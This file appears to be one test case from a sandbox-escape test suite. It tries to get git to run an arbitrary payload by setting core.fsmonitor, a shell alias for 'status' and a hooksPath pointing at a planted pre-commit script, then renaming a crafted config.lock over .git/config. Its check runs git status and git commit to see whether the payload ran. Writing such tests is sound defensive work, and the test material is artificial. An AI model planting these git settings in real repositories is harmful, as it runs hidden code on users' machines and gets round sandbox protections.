"""
id: c-git-own-command
class: c
title: let git itself write the setting, under its lock file's name
source: git config renames config.lock over config
"""
from esc import *


def attack(x):
    for args in (("config", "core.fsmonitor", x.pwn + "; false"), ("config", "--worktree", "core.fsmonitor", x.pwn),
                 ("config", "alias.status", "!" + x.pwn), ("config", "core.hooksPath", "pkg")):
        subprocess.run(["git", *args], cwd=x.project, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    x.put(x.p("pkg/pre-commit"), x.script, 0o755)
    x.git_config(x.p(".git/config.lock"))
    x.attempt(os.rename, x.p(".git/config.lock"), x.p(".git/config"))


def verdict(x):
    x.sh("git", "status")
    x.sh("git", "commit", "--allow-empty", "-m", "work")
    return x.executed()


main(globals())
